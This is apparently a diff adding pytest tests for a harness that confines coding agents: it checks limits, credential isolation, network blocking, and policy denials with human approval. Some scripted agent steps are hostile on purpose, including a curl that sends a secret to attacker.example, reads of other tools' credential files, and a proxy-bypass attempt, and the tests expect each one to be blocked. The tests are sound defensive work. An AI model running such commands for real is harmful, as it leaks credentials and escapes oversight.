@@ -1,0 +1,270 @@
+"""An agent in its quarters, in whole runs: what it can see and reach there, what is counted, how it is stopped.
+
+The scripted agent plays; pinned as Claude Code it is heard through a stream, as itself through the protocol.
+"""
+
+import json
+import os
+import socket
+import socketserver
+import subprocess
+import threading
+from collections.abc import Callable, Generator
+from contextlib import contextmanager
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from program import PROGRAM
+from repositories import git
+from repositories import write as put
+from runs.hands import NO_KEYS, claude, fake, run_with
+from runs.scenes import Run, called, scene, told
+from wire_server import Answer, Says, serving
+
+Engine = Callable[..., str]
+RIGHT: dict[str, Any] = {"write": {"path": "answer.txt", "content": "right\n"}}
+KEY = {"ANTHROPIC_API_KEY": "sk-the-real-one"}
+both = pytest.mark.parametrize("engine", [claude, fake])
+
+
+@pytest.fixture
+def repo(tmp_path: Path) -> Path:
+    return scene(tmp_path / "repo")
+
+
+@pytest.fixture
+def place(tmp_path: Path) -> Path:
+    return tmp_path / "agent"
+
+
+ACCOUNT = json.dumps({"claudeAiOauth": {"accessToken": "old", "expiresAt": 4102444800000}})
+
+
+@pytest.fixture(autouse=True)
+def account(home: Path) -> Path:
+    """Somebody has signed in to Claude Code; there is no key, and so no model for our own engine."""
+    put(home, {".claude/.credentials.json": ACCOUNT})
+    return home / ".claude/.credentials.json"
+
+
+@contextmanager
+def listening() -> Generator[tuple[int, list[bytes]]]:
+    """A server on the host that answers nothing useful; what it heard."""
+    heard: list[bytes] = []
+
+    class Handler(socketserver.StreamRequestHandler):
+        def handle(self) -> None:
+            heard.append(self.rfile.readline())
+            self.wfile.write(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
+
+    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler) as server:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        try:
+            yield server.server_address[1], heard
+        finally:
+            server.shutdown()
+
+
+def results(ran: Run) -> list[str]:
+    return [event["preview"] for event in ran.of("tool_result")]
+
+
+@pytest.mark.promise("events.external-event")
+@both
+def test_what_it_does_is_told_as_calls_and_results_and_counted(repo: Path, place: Path, engine: Engine) -> None:
+    steps = [
+        {"usage": {"input": 100, "output": 7}},
+        {"say": "let me see"},
+        {"shell": "echo hi"},
+        RIGHT,
+        {"say": "done"},
+    ]
+    ran = run_with(repo, engine(place, steps))
+    assert (ran.code, ran.last["outcome"]) == (0, "verified")
+    calls, ended = ran.of("tool_call"), ran.of("tool_result")
+    assert [event["id"] for event in calls] == [event["id"] for event in ended]
+    assert len(calls) == 2
+    assert "echo hi" in calls[0]["params_preview"]
+    assert "hi" in ended[0]["preview"]
+    assert [event["text"] for event in ran.of("plan_text")] == ["let me see", "done"]
+    assert ran.of("spend")[-1]["tokens"] > 0
+    assert all("raw" in event for event in ran.of("external_event"))
+
+
+@both
+def test_a_red_round_is_repaired_in_the_same_conversation(repo: Path, place: Path, engine: Engine) -> None:
+    ran = run_with(repo, engine(place, [{"task": True}], [{"task": True}, RIGHT]))
+    assert (ran.code, ran.last["iterations"]) == (0, 2)
+    first, second = (event["text"] for event in ran.of("plan_text"))
+    assert "Ground rules" in first
+    assert "not done" not in first
+    assert "Your work was checked, and it is not done" in second
+
+
+# -- limits --
+
+
+@pytest.mark.promise("external.limits")
+@both
+def test_turns_are_counted_by_us_and_the_agent_ends_at_the_limit(repo: Path, place: Path, engine: Engine) -> None:
+    steps = [{"shell": f"echo {number} > n.txt"} for number in range(30)]
+    ran = run_with(repo, engine(place, steps, steps), "--max-turns", "3", "--max-iterations", "1")
+    assert (ran.code, ran.last["outcome"]) == (1, "red")
+    assert 3 <= len(ran.of("model_turn")) < 30
+
+
+@both
+def test_tokens_are_counted_while_it_works_and_end_it(repo: Path, place: Path, engine: Engine) -> None:
+    steps = [{"usage": {"input": 1000, "output": 10}}, *({"shell": "echo x"} for _ in range(30))]
+    ran = run_with(repo, engine(place, steps), "--max-tokens", "2500")
+    if engine is claude:  # over the protocol, an agent tells its tokens at the end
+        assert (ran.code, ran.last["outcome"]) == (5, "budget")
+        assert len(ran.of("model_turn")) < 30
+    assert "tokens: used" in ran.last["reason"]
+
+
+def test_an_agent_that_says_how_much_it_cost_is_counted_in_money(repo: Path, place: Path) -> None:
+    ran = run_with(
+        repo, claude(place, [{"usage": {"input": 10, "output": 1, "usd": 0.25}}, {"say": "x"}, RIGHT]), env=KEY
+    )
+    assert ran.of("spend")[-1]["usd"] == pytest.approx(0.5, abs=0.26)
+
+
+# -- credentials --
+
+
+@both
+def test_a_refused_sign_in_waits_for_a_person_and_goes_on_afterwards(repo: Path, place: Path, engine: Engine) -> None:
+    steps: list[dict[str, Any]] = [{"unauthorized": True}]
+    ran = run_with(repo, engine(place, steps, [RIGHT]))
+    assert ran.code == 3
+    assert ran.last["to"] == "waiting"
+    assert "sign_in" in [event["kind"] for event in ran.of("error")]
+    assert [event["phase"] for event in ran.of("check_completed")][-1] in ("round", "rerun")
+    went_on = told(repo, "resume", ran.session, "--json", env=NO_KEYS)
+    assert (went_on.code, went_on.last["outcome"]) == (0, "verified")
+
+
+def test_work_that_is_green_when_the_sign_in_ends_is_verified(repo: Path, place: Path) -> None:
+    ran = run_with(repo, claude(place, [RIGHT, {"unauthorized": True}]))
+    assert (ran.code, ran.last["outcome"]) == (0, "verified")
+
+
+def test_the_key_stays_outside_and_the_gateway_puts_it_in(repo: Path, place: Path) -> None:
+    ask = "curl -s -X POST -H 'x-api-key: '$ANTHROPIC_API_KEY $ANTHROPIC_BASE_URL/v1/messages -d '{\"messages\": []}'"
+    with serving(Says(Answer(text="hello from the model"))) as server:
+        engine = claude(place, [{"env": True}, {"shell": ask}, RIGHT], more=f'[model]\nbase_url = "{server.url}"\n')
+        ran = run_with(repo, engine, env=KEY)
+        received = server.received
+    assert ran.code == 0, ran.events
+    assert "sk-the-real-one" not in json.dumps(ran.events)
+    assert [one.headers["x-api-key"] for one in received] == ["sk-the-real-one"]
+    assert "hello from the model" in json.dumps(ran.of("external_event"))
+
+
+def test_its_own_credentials_are_bound_and_may_rotate_and_those_of_others_are_not_there(
+    repo: Path, place: Path, home: Path, account: Path
+) -> None:
+    put(home, {".codex/auth.json": "theirs", ".claude/settings.json": "hooks"})
+    rotate = "cat $CLAUDE_CONFIG_DIR/.credentials.json; printf new > $CLAUDE_CONFIG_DIR/.credentials.json"
+    others = "ls -a ~; cat ~/.codex/auth.json ~/.claude/settings.json $CLAUDE_CONFIG_DIR/settings.json"
+    ran = run_with(repo, claude(place, [{"shell": rotate}, {"shell": others}, RIGHT]))
+    assert ran.code == 0, ran.events
+    assert account.read_text() == "new"
+    assert results(ran)[0].startswith(ACCOUNT)
+    assert "theirs" not in results(ran)[1]
+    assert "hooks" not in results(ran)[1].replace("disableAllHooks", "")
+
+
+# -- whom it reaches --
+
+
+def test_another_host_is_out_of_reach_and_the_attempt_is_told(repo: Path, place: Path) -> None:
+    with socket.create_server(("127.0.0.1", 0)) as host:
+        port = host.getsockname()[1]
+        steps = [
+            {"shell": "curl -sS -m 5 https://attacker.example/?secret"},
+            {"shell": f"curl -sS -m 5 http://127.0.0.1:{port}/; curl -sS -m 5 --noproxy '*' http://127.0.0.1:{port}/"},
+            {"shell": f"unset NO_PROXY no_proxy; curl -sS -m 5 -x $HTTP_PROXY http://127.0.0.1:{port}/"},
+            RIGHT,
+        ]
+        ran = run_with(repo, claude(place, steps))
+        host.setblocking(False)
+        with pytest.raises(BlockingIOError):
+            host.accept()
+    assert ran.code == 0, ran.events
+    denied = ran.of("policy_denied")
+    assert [event["rule"] for event in denied] == ["network", "network"]
+    assert "attacker.example" in denied[0]["command"]
+    assert "not among the hosts" in denied[0]["reason"]
+
+
+@pytest.mark.promise("external.mcp-url")
+def test_an_mcp_server_is_passed_on_when_it_is_set_and_absent_otherwise(repo: Path, place: Path) -> None:
+    without = run_with(repo, fake(place, [{"mcp": True}, RIGHT]))
+    assert without.code == 0
+    assert "47803" not in json.dumps(without.events)
+    with listening() as (port, heard):
+        more = f'[external]\nmcp_url = "http://127.0.0.1:{port}/mcp"\n'
+        ran = run_with(repo, fake(place, [{"mcp": True}, RIGHT], more=more), "--check", "again=grep right answer.txt")
+        assert ran.code == 0
+        assert heard[0].startswith(b"POST /mcp ")
+
+
+# -- what configures it --
+
+
+@pytest.mark.promise("agent.project-settings")
+@pytest.mark.parametrize("trusted", [False, True])
+def test_nothing_in_the_repository_configures_the_agent_unless_the_user_says_so(
+    repo: Path, place: Path, trusted: bool
+) -> None:
+    put(repo, {".claude/settings.json": "hooks of the tree", ".mcp.json": "servers of the tree"})
+    git(repo, "add", "-A")
+    git(repo, "commit", "-qm", "settings")
+    engine = claude(place, [{"shell": "cat .claude/settings.json .mcp.json"}, RIGHT])
+    if trusted:
+        config = Path(os.environ["XDG_CONFIG_HOME"], "donewhen", "config.toml")
+        config.write_text(config.read_text() + "project_settings = true\n")
+    ran = run_with(repo, engine)
+    assert ran.code == 0, ran.events
+    assert ("of the tree" in results(ran)[0]) is trusted
+    assert git(repo, "show", f"donewhen/{ran.session}:.mcp.json") == "servers of the tree"
+
+
+# -- leave --
+
+
+def test_a_command_that_the_policy_denies_is_refused_over_the_protocol(repo: Path, place: Path) -> None:
+    ran = run_with(repo, fake(place, [{"shell": "git push origin main"}, RIGHT]))
+    assert ran.code == 0
+    assert ran.one("policy_denied")["rule"] == "git-push"
+    assert [event["ok"] for event in ran.of("tool_result")] == [False, True]
+
+
+@pytest.mark.parametrize(("answer", "ok"), [("yes", True), ("no", False)])
+def test_a_command_that_the_policy_asks_about_is_put_to_a_person(
+    repo: Path, place: Path, answer: str, ok: bool
+) -> None:
+    engine = fake(place, [{"shell": "echo deploying"}, RIGHT], more='[policy]\nask = ["echo deploying"]\n')
+    command = [PROGRAM, "run", "x", "--engine", engine, "--ask", "--json"]
+    with subprocess.Popen(command, cwd=repo, stdout=subprocess.PIPE, env={**os.environ, **NO_KEYS}) as running:
+        assert running.stdout is not None
+        events: list[dict[str, Any]] = []
+        for line in running.stdout:
+            events.append(json.loads(line))
+            if events[-1]["type"] == "question_asked":
+                assert "echo deploying" in events[-1]["prompt"]
+                assert called(repo, "answer", events[-1]["session"], answer).code == 0
+    assert running.wait() == 0
+    assert next(event["ok"] for event in events if event["type"] == "tool_result") is ok
+
+
+@pytest.mark.promise("external.require")
+def test_an_agent_that_is_less_governed_than_is_required_declines(repo: Path, place: Path) -> None:
+    engine = claude(place, [RIGHT], more='[external]\nrequire = "full"\n')
+    answer = called(repo, "run", "x", "--engine", engine, env=NO_KEYS)
+    assert answer.code == 2
+    assert "claude-code is confined, and external.require wants full" in answer.err
